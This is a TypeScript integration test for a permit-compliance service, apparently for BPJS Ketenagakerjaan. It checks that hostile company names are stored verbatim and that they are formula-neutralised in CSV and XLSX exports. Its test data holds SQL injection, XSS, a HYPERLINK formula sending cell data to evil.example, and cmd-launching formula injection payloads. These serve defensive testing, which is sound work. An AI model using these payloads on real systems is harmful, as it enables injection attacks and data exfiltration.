import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import ExcelJS from 'exceljs';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApiKey } from '../../src/api/apiKeys.js';
import { buildServer } from '../../src/api/server.js';
import { LIST_COLUMNS } from '../../src/notify/digestContent.js';
import { jakartaYmd, pushToken } from '../../src/oss/pushToken.js';
import { jsonLines, runCli } from '../support/cli.js';
import { ossRecord } from '../support/ossRecords.js';
import { createTestEnv, type TestEnv } from '../support/testEnv.js';

const USER = 'bpjs-tk';
const PASS = 'rahasia-push';

/** Company names as hostile as a registry can hold them (no NUL: refused, see hostileImports). */
const NAMES = [
  `PT O'Brien "Kutip" Ganda`,
  "PT Aman'; DROP TABLE permit; --",
  'CV Garis\\Miring\\\\',
  'PT Kontrol\u0001\u0007\u001b\u007f Jaya',
  'PT \u200fعربي\u200e \u202eKIRI\u202c Sejahtera',
  'PT 🚀 Roket 👨‍👩‍👧 Keluarga',
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  '+62 Niaga Sejahtera',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  `PT ${'Panjang Sekali '.repeat(29)}Akhir`,
  'PT Baris\nDua\r\nTiga',
  'PT _x0041_ Lolos \uFFFE Escape',
  'PT Tab\tDalam',
  '<script>alert(1)</script> PT',
  'PT \\u0000 Harfiah',
];
/** Addresses that would be formulas, for the address column. */
const ADDRESSES = ['=1+1', '@Jl. Merdeka', '-', '+ Blok A', 'Jl. Biasa No. 1'];

/** What a spreadsheet list must show for a text: the text, with an apostrophe before a formula start. */
const neutralised = (s: string) => (/^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
const FORMULA_START = /^[=+\-@\t\r]/;

const TUBAN = NAMES.slice(0, 8).map((name, i) => ({ nib: String(9160000000001 + i), name, address: ADDRESSES[i % ADDRESSES.length]! }));
const JEMBER = NAMES.slice(8).map((name, i) => ({ nib: String(9160000000101 + i), name, address: ADDRESSES[(i + 2) % ADDRESSES.length]! }));
const PERMITS = [...TUBAN, ...JEMBER];
const byNib = new Map(PERMITS.map((p) => [p.nib, p]));

/** Employers with hostile names, enrolled under some permits' NIBs with fewer workers than declared. */
const EMPLOYERS = [
  { npp: '16000001', name: NAMES[6]!, nib: TUBAN[0]!.nib },
  { npp: '16000002', name: NAMES[1]!, nib: TUBAN[1]!.nib },
  { npp: '16000003', name: NAMES[11]!, nib: JEMBER[0]!.nib },
  { npp: '16000004', name: NAMES[4]!, nib: JEMBER[1]!.nib },
];

/** The list's cells by column header, for each data row. */
function rowsByHeader(rows: string[][]): Array<Record<string, string>> {
  const [header, ...data] = rows;
  return data.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ''])));
}

async function readWorkbook(data: Buffer | ArrayBuffer): Promise<string[][]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(data as ArrayBuffer);
  const sheet = book.worksheets[0]!;
  const rows: string[][] = [];
  sheet.eachRow((row) => {
    const cells: string[] = [];
    for (let c = 1; c <= LIST_COLUMNS.length; c += 1) {
      const cell = row.getCell(c);
      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      cells.push(cell.text);
    }
    rows.push(cells);
  });
  return rows;
}

const COMPANY = LIST_COLUMNS.find((c) => c.key === 'company_name')!.header;
const ADDRESS = LIST_COLUMNS.find((c) => c.key === 'address')!.header;

/**
 * Every list row shows its permit's name and address, neutralised; no text cell starts like
 * a formula. Returns the NIBs listed; with `expectedNibs`, they must be exactly those.
 */
function expectNeutralisedList(rows: string[][], expectedNibs?: string[]): string[] {
  expect(rows[0]).toEqual(LIST_COLUMNS.map((c) => c.header));
  const list = rowsByHeader(rows);
  const nibs = [...new Set(list.map((r) => r.NIB!))].sort();
  if (expectedNibs) expect(nibs).toEqual([...expectedNibs].sort());
  for (const row of list) {
    const permit = byNib.get(row.NIB!)!;
    expect(row[COMPANY]).toBe(neutralised(permit.name));
    expect(row[ADDRESS]).toBe(neutralised(permit.address));
    for (const [header, value] of Object.entries(row)) {
      // Numbers (priority, workers) are numbers; every text cell is neutralised.
      if (FORMULA_START.test(value)) expect(Number.isFinite(Number(value)), `${header}: ${value}`).toBe(true);
    }
  }
  return nibs;
}

describe('hostile company names through import, push, matching, exports and digests', () => {
  let t: TestEnv;
  let app: FastifyInstance;
  let admin: string;

  beforeAll(async () => {
    t = await createTestEnv({ OSS_PUSH_USERNAME: USER, OSS_PUSH_PASSWORD: PASS });
    app = await buildServer(t.ctx, { rateLimitPerMinute: 100_000 });
    admin = (await createApiKey(t.ctx.db, { name: 'admin', role: 'admin', branches: [] })).key;

    // TUBAN permits by file import, JEMBER permits by receiveNIB push.
    const file = join(t.dir, 'hostile-names.jsonl');
    await writeFile(file, `${TUBAN.map((p) => JSON.stringify({ dataNIB: { ...ossRecord({ nib: p.nib, name: p.name, workers: [7, 2] }), alamat_perseroan: p.address } })).join('\n')}\n`);
    const imported = await runCli(['permits', 'import', file], t.env);
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stdout).toMatch(new RegExp(`accepted ${TUBAN.length} \\(${TUBAN.length} new`));
    for (const p of JEMBER) {
      const r = await app.inject({
        method: 'POST',
        url: '/oss/receiveNIB',
        headers: { token: pushToken(USER, PASS, p.nib, jakartaYmd(new Date())) },
        payload: { dataNIB: { ...ossRecord({ nib: p.nib, name: p.name, region: '3509010001', workers: [7, 2] }), alamat_perseroan: p.address } },
      });
      expect(r.json(), p.name).toEqual({ responreceiveNIB: { status: '1', keterangan: 'Data NIB berhasil diterima' } });
    }

    const extract = join(t.dir, 'hostile-names.csv');
    const header = ['npp', 'nama_perusahaan', 'npwp', 'nib', 'alamat', 'kode_wilayah', 'status', 'program', 'tk_aktif', 'total_upah', 'bulan_tunggakan'];
    await writeFile(extract, stringify([header, ...EMPLOYERS.map((e) => [e.npp, e.name, '', e.nib, 'Jl. Uji', '35.23', 'AKTIF', 'JKK;JKM;JHT;JP', '2', '9000000', '0'])]));
    const enrolled = await runCli(['enrollment', 'import', extract], t.env);
    expect(enrolled.code, enrolled.stderr).toBe(0);
    expect(enrolled.stdout).toMatch(new RegExp(`${EMPLOYERS.length} loaded`));

    const run = await runCli(['run', '--until-idle'], t.env);
    expect(run.code, run.stderr).toBe(0);
  });
  afterAll(async () => {
    await app.close();
    await t.cleanup();
  });

  it('stores every name exactly as sent, whichever channel brought it', async () => {
    const permits = await t.ctx.db.selectFrom('permit').select(['nib', 'name', 'address', 'source']).orderBy('nib').execute();
    expect(permits).toEqual(PERMITS.map((p) => ({ nib: p.nib, name: p.name, address: p.address, source: TUBAN.includes(p) ? 'file' : 'push' })).sort((a, b) => a.nib.localeCompare(b.nib)));
    const employers = await t.ctx.db.selectFrom('employer').select(['npp', 'name', 'nib']).orderBy('npp').execute();
    expect(employers).toEqual(EMPLOYERS.map((e) => ({ npp: e.npp, name: e.name, nib: e.nib })));
    // The tables the SQL-looking names talk about are all still there.
    expect(Number((await t.ctx.db.selectFrom('permit').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow()).n)).toBe(PERMITS.length);
  });

  it('matches every permit and exports one parseable JSONL line per permit (patuh matches export)', async () => {
    const r = await runCli(['matches', 'export', '--format', 'jsonl'], t.env);
    expect(r.code, r.stderr).toBe(0);
    const lines = jsonLines(r.stdout);
    expect(lines.map((l) => l.nib).sort()).toEqual(PERMITS.map((p) => p.nib).sort());
    for (const line of lines) expect(Object.keys(line)).toEqual(['nib', 'npp', 'decision', 'score', 'method']);
    for (const e of EMPLOYERS) expect(lines.find((l) => l.nib === e.nib)).toMatchObject({ npp: e.npp, decision: 'matched', method: 'nib' });
  });

  it('exports findings as JSONL and CSV (patuh findings export) that parse back, with no formula cell', async () => {
    const jsonl = await runCli(['findings', 'export', '--format', 'jsonl'], t.env);
    expect(jsonl.code, jsonl.stderr).toBe(0);
    const findings = jsonLines(jsonl.stdout);
    expect([...new Set(findings.map((f) => f.nib))].sort()).toEqual(PERMITS.map((p) => p.nib).sort());
    for (const e of EMPLOYERS) {
      expect(findings).toContainEqual(expect.objectContaining({ nib: e.nib, npp: e.npp, category: 'under_reported_workers', evidence: { declared_workers: 9, reported_workers: 2, gap: 7 } }));
    }

    const out = join(t.dir, 'findings.csv');
    const csv = await runCli(['findings', 'export', '--format', 'csv', '--out', out], t.env);
    expect(csv.code, csv.stderr).toBe(0);
    const rows = parse(await readFile(out, 'utf8'), { bom: true }) as string[][];
    expect(rows[0]).toEqual(['nib', 'npp', 'category', 'branch', 'status', 'evidence']);
    expect(rows.length - 1).toBe(findings.length);
    for (const row of rows.slice(1)) {
      for (const cell of row) expect(FORMULA_START.test(cell)).toBe(false);
      expect(JSON.parse(row[5]!)).toEqual(findings.find((f) => f.nib === row[0] && f.category === row[2])!.evidence);
    }
  });

  it('exports the officers\' list as XLSX (patuh findings export --format xlsx) with names verbatim and formulas neutralised', async () => {
    const out = join(t.dir, 'findings.xlsx');
    const r = await runCli(['findings', 'export', '--format', 'xlsx', '--out', out], t.env);
    expect(r.code, r.stderr).toBe(0);
    expectNeutralisedList(await readWorkbook(await readFile(out)), PERMITS.map((p) => p.nib));
  });

  it('serves names verbatim as JSON, and neutralised in the CSV and XLSX downloads (GET /findings)', async () => {
    const headers = { authorization: `Bearer ${admin}` };
    const json = await app.inject({ method: 'GET', url: '/findings?limit=500', headers });
    expect(json.statusCode).toBe(200);
    const items = json.json().items as Array<{ nib: string; company_name: string; address: string }>;
    expect(new Set(items.map((i) => i.nib)).size).toBe(PERMITS.length);
    for (const item of items) expect({ name: item.company_name, address: item.address }).toEqual({ name: byNib.get(item.nib)!.name, address: byNib.get(item.nib)!.address });

    const csv = await app.inject({ method: 'GET', url: '/findings?format=csv', headers });
    expect(csv.statusCode).toBe(200);
    expectNeutralisedList(parse(csv.body, { bom: true }) as string[][], PERMITS.map((p) => p.nib));

    const xlsx = await app.inject({ method: 'GET', url: '/findings?format=xlsx&branch=JEMBER', headers });
    expect(xlsx.statusCode).toBe(200);
    expectNeutralisedList(await readWorkbook(xlsx.rawPayload), JEMBER.map((p) => p.nib));

    for (const p of PERMITS) {
      const permit = await app.inject({ method: 'GET', url: `/permits/${p.nib}`, headers });
      expect(permit.json().permit.name).toBe(p.name);
    }
  });

  it('writes digest files (file channel) whose CSV and XLSX lists show names neutralised, per branch', async () => {
    for (const [branch, permits] of [['TUBAN', TUBAN], ['JEMBER', JEMBER]] as const) {
      const dir = join(t.config.NOTIFY_DIR, branch);
      const files = await readdir(dir);
      const csvFiles = files.filter((f) => f.endsWith('.csv'));
      const xlsxFiles = files.filter((f) => f.endsWith('.xlsx'));
      expect(csvFiles.length).toBeGreaterThan(0);
      expect(xlsxFiles.map((f) => f.replace(/\.xlsx$/, ''))).toEqual(csvFiles.map((f) => f.replace(/\.csv$/, '')));
      // A branch may get several digests as its permits are matched batch by batch.
      const listed = new Set<string>();
      for (const f of csvFiles) {
        const nibs = expectNeutralisedList(parse(await readFile(join(dir, f), 'utf8'), { bom: true }) as string[][]);
        expect(expectNeutralisedList(await readWorkbook(await readFile(join(dir, f.replace(/\.csv$/, '.xlsx')))))).toEqual(nibs);
        nibs.forEach((n) => listed.add(n));
      }
      expect([...listed].sort()).toEqual(permits.map((p) => p.nib).sort());
    }
  });
});
